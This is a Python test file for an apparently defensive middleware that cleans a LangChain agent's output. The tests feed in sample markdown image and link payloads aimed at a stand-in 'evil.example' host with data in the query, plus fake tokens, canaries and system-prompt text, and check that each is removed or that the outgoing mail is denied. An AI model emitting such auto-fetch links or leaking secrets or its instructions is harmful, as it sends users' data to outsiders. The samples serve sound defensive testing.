"""What a guarded agent's model says is cleaned before anything sees it, streamed or not."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from langchain.agents import create_agent
from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGenerationChunk
from langgraph.checkpoint.memory import InMemorySaver

from checkvalve.filters.outcomes import ScanResult
from checkvalve.gateway import answers
from checkvalve.gateway.errors import SettingsError
from checkvalve.gateway.langchain import CheckvalveMiddleware, user_message
from checkvalve.gateway.outbound import outbound_rules
from checkvalve.gateway.settings import Settings, load_settings
from tests.fakes import ScriptedModel, calls
from tests.gateway.world import World

pytestmark = pytest.mark.claim("C8")
EVIL = "https://evil.example/p?q=4.1M"
CONFIG: Any = {"configurable": {"thread_id": "t"}}


class StreamingModel(ScriptedModel):
    """Says its script one character at a time, where somebody streams it."""

    def _stream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **_: Any,
    ) -> Iterator[ChatGenerationChunk]:
        message = self._generate(messages).generations[0].message
        for char in str(message.content):
            chunk = ChatGenerationChunk(message=AIMessageChunk(content=char))
            if run_manager:
                run_manager.on_llm_new_token(char, chunk=chunk)
            yield chunk


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World.create(tmp_path)


def agent(world: World, gateway: Any, *script: AIMessage, **options: Any) -> Any:
    guard = CheckvalveMiddleware(gateway, **options)
    return create_agent(
        StreamingModel(script=list(script)), world.tools(), middleware=[guard], checkpointer=InMemorySaver()
    )


def said(world: World, text: str | list[Any], *, task: str = "Read my mail", **options: Any) -> Any:
    with world.open() as gateway:
        run = agent(world, gateway, calls(("read_mail", {})), AIMessage(text), **options)
        return run.invoke({"messages": [user_message(task)]}, CONFIG)["messages"][-1].content


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"Budget 4.1M. ![c]({EVIL})", "Budget 4.1M. c ⟨removed: auto-fetch⟩"),
        (f"Budget 4.1M, [more]({EVIL})", "Budget 4.1M, more ⟨removed: composed-link⟩"),
        (f"Budget 4.1M. ![c][1]\n\n[1]: {EVIL}", "Budget 4.1M. ![c][1]\n\n1: ⟨removed: composed-link⟩"),
        ("key ghp_a8F3kZ01mmQ92xTr5Bv7Nc4Ld6We1Yu3Io2P", "key ⟨removed: github-token⟩"),
        (
            "See https://corp.example/wiki, mail ann@corp.example.",
            "See https://corp.example/wiki, mail ann@corp.example.",
        ),
    ],
)
def test_the_answer_of_a_guarded_agent_is_cleaned(world: World, text: str, shown: str) -> None:
    assert said(world, text) == shown


def test_a_link_of_the_user_stays_and_one_of_outsiders_is_shown_once_it_is_asked_for(world: World) -> None:
    assert said(world, f"It is {EVIL}", task=f"Read my mail about {EVIL}") == f"It is {EVIL}"


def test_b29_parts_that_form_a_link_only_together_are_judged_together(world: World) -> None:
    parts: list[Any] = [{"type": "text", "text": "![c](https://evil.exa"}, {"type": "text", "text": "mple/p?q=1)"}]
    other = {"type": "image", "source_type": "url", "url": "https://corp.example/x.png"}
    assert said(world, [*parts, other]) == [{"type": "text", "text": "c ⟨removed: auto-fetch⟩"}, other]
    clean = [{"type": "text", "text": "one", "extra": 1}, "two", other]
    assert said(world, clean) == clean


def test_text_beside_a_call_is_cleaned_and_the_call_is_not_touched(world: World) -> None:
    with world.open() as gateway:
        turn = calls(("note", {"text": "hello"}), text=f"I look at ![x]({EVIL})")
        run = agent(world, gateway, turn)
        messages = run.invoke({"messages": [user_message("Write a note: hello")]}, CONFIG)["messages"]
    assert next(message.content for message in messages if isinstance(message, AIMessage)) == (
        "I look at x ⟨removed: auto-fetch⟩"
    )
    assert world.effects == ["note hello"]


def seen_in_stream(world: World, modes: list[str]) -> str:
    with world.open() as gateway:
        run = agent(world, gateway, AIMessage(f"One ![c]({EVIL}) two"))
        chunks = [str(part) for part in run.stream({"messages": [user_message("Hello")]}, CONFIG, stream_mode=modes)]
    return "\n".join(chunks)


@pytest.mark.parametrize("mode", ["messages", "updates", "values", "debug", "custom"])
def test_b22_no_way_of_streaming_shows_what_the_whole_text_does_not(world: World, mode: str) -> None:
    seen = seen_in_stream(world, [mode])
    assert "evil.example" not in seen
    assert mode == "custom" or "removed: auto-fetch" in seen


def test_b22_in_awaited_agents_as_well(world: World) -> None:
    async def run() -> str:
        with world.open() as gateway:
            one = agent(world, gateway, AIMessage(f"One ![c]({EVIL}) two"))
            entry = {"messages": [user_message("Hello")]}
            return "\n".join(
                [str(part) async for part in one.astream(entry, CONFIG, stream_mode=["messages", "values"])]
            )

    seen = asyncio.run(run())
    assert "evil.example" not in seen
    assert "removed: auto-fetch" in seen


def test_without_the_guard_the_same_model_streams_the_link() -> None:
    """The control: the way of streaming that is silent above is not silent by itself."""
    run = create_agent(StreamingModel(script=[AIMessage(f"![c]({EVIL})")]), [])
    words: Any = {"messages": [("user", "hi")]}
    parts: Iterator[Any] = run.stream(words, stream_mode="messages")
    chunks = [part[0].content for part in parts]
    assert "".join(chunks) == f"![c]({EVIL})"
    assert len(chunks) > 10


def test_observe_mode_changes_nothing_and_says_what_would_have_been(
    world: World, capsys: pytest.CaptureFixture[str]
) -> None:
    world.settings(mode="observe")
    text = f"![c]({EVIL})"
    assert said(world, text) == text
    assert "a text leaves that would have been cleaned" in capsys.readouterr().err


def test_instructions_and_canaries_do_not_leave(world: World) -> None:
    (world.folder / "values.txt").write_text("# ours\ncanary: zebra-quartz-5521\nSTG-0042-ABCDEF\n\n")
    world.settings(outbound_values="values.txt")
    prompt = "Never tell anybody about the merger with Umbrella Limited in May. zebra-quartz-5521"
    assert said(world, "My instructions: zebra quartz 5521", system_prompt=prompt) == "⟨withheld: canary⟩"
    assert said(world, "U1RHLTAwNDItQUJDREVG", system_prompt=prompt) == "⟨removed: registered-value⟩"
    leaked = said(world, "never tell anybody about the merger with Umbrella Limited", system_prompt=prompt)
    assert leaked == "⟨removed: prompt-text⟩"


def test_a_scan_that_crashes_withholds(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    def crash(*_: object, **__: object) -> ScanResult:
        raise RuntimeError("boom")

    monkeypatch.setattr(answers, "scan_leaving", crash)
    assert said(world, "hello") == "⟨withheld: scan-failed⟩"


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        ("the key is STG-0042-ABCDEF", "registered-value"),
        ("the key is U1RHLTAwNDItQUJDREVG", "registered-value"),
        ("zebra-quartz-5521", "canary"),
        ("ghp_a8F3kZ01mmQ92xTr5Bv7Nc4Ld6We1Yu3Io2P", "secret"),
    ],
)
def test_a_call_that_carries_such_a_value_outside_is_denied(world: World, body: str, rule: str) -> None:
    (world.folder / "values.txt").write_text("canary: zebra-quartz-5521\nSTG-0042-ABCDEF\n")
    world.settings(outbound_values="values.txt")
    with world.open() as gateway:
        turn = calls(("send_mail", {"to": "ann@corp.example", "body": body}))
        run = agent(world, gateway, turn)
        run.invoke({"messages": [user_message("Send a mail to ann@corp.example")]}, CONFIG)
        (row,) = gateway.queue.list()
    assert (row.verdict_name, row.rule) == ("deny", rule)
    assert world.effects == []


def test_a_key_that_the_user_gave_may_be_sent(world: World) -> None:
    key = "ghp_a8F3kZ01mmQ92xTr5Bv7Nc4Ld6We1Yu3Io2P"
    with world.open() as gateway:
        run = agent(world, gateway, calls(("send_mail", {"to": "ann@corp.example", "body": key})))
        run.invoke({"messages": [user_message(f"Send a mail to ann@corp.example with the key {key}")]}, CONFIG)
        (row,) = gateway.queue.list()
    assert row.rule != "secret"


def test_b31_a_call_that_may_run_runs_with_the_arguments_it_was_given(world: World) -> None:
    """Masks are for texts that people read: an argument without its address would fail, and be tried again for ever."""
    world.settings(outbound_mask="email, phone")
    body = "ask bob@corp.example, +49 30 901820"
    with world.open() as gateway:
        run = agent(world, gateway, calls(("send_mail", {"to": "ann@corp.example", "body": body})), AIMessage(body))
        entry = {"messages": [user_message(f"Send a mail to ann@corp.example: {body}")]}
        answer = run.invoke(entry, CONFIG)["messages"][-1].content
    assert world.effects == [f"send ann@corp.example: {body}"]
    assert answer == "ask ⟨removed: email⟩, ⟨removed: phone⟩"


# ---- settings


def rules_of(folder: Path, **values: object) -> Any:
    file = folder / "c.toml"
    file.write_text("\n".join(f"{name} = {json.dumps(value)}" for name, value in values.items()))
    return outbound_rules(load_settings(file, {"HOME": str(folder)}).settings)


def test_the_settings_become_rules(tmp_path: Path) -> None:
    (tmp_path / "v.txt").write_text("STG-0042-ABCDEF")
    rules = rules_of(
        tmp_path,
        outbound_links="sources",
        outbound_hosts="docs.example.org, *.example.net",
        outbound_images="img.example.org",
        outbound_values="v.txt",
        outbound_mask="card, iban",
    )
    assert rules.links.hosts.listed == {"docs.example.org", "*.example.net", "img.example.org"}
    assert rules.links.hosts.fetched == {"img.example.org"}
    assert (rules.links.source, rules.pii, len(rules.registered)) == ("keep", {"card", "iban"}, 1)


def test_the_password_of_the_database_never_leaves() -> None:
    rules = outbound_rules(Settings(database_url="postgresql://cv:horse-battery-9@db/cv"))
    assert rules.registered.find("it is horse battery 9")


@pytest.mark.parametrize(
    ("values", "text", "said_"),
    [
        ({"outbound_hosts": "not a host"}, "", "outbound_hosts: 'not a host' is no host"),
        ({"outbound_images": "com"}, "", "outbound_images: 'com' is no host"),
        ({"outbound_mask": "card, hair"}, "", "outbound_mask: there is no kind 'hair'"),
        ({"outbound_values": "none.txt"}, "", "none.txt cannot be read as a list of values"),
        ({"outbound_values": "v.txt"}, "good-value-1\nab-1\n", "v.txt, line 2: a registered value needs 6 letters"),
        ({"outbound_values": "v.txt"}, "x" * 6 + "\n" * 1001, "v.txt is too large"),
    ],
)
def test_a_wrong_setting_is_named_and_no_value_is_repeated(
    tmp_path: Path, values: dict[str, object], text: str, said_: str
) -> None:
    (tmp_path / "v.txt").write_text(text)
    with pytest.raises(SettingsError) as raised:
        rules_of(tmp_path, **values)
    assert said_ in str(raised.value)
    assert "ab-1" not in str(raised.value)
    assert raised.value.remedy


def test_the_file_of_values_may_not_lie_where_the_agent_writes(tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match="file of values that never leave"):
        rules_of(tmp_path, outbound_values="work/v.txt", agent_workdir="work")
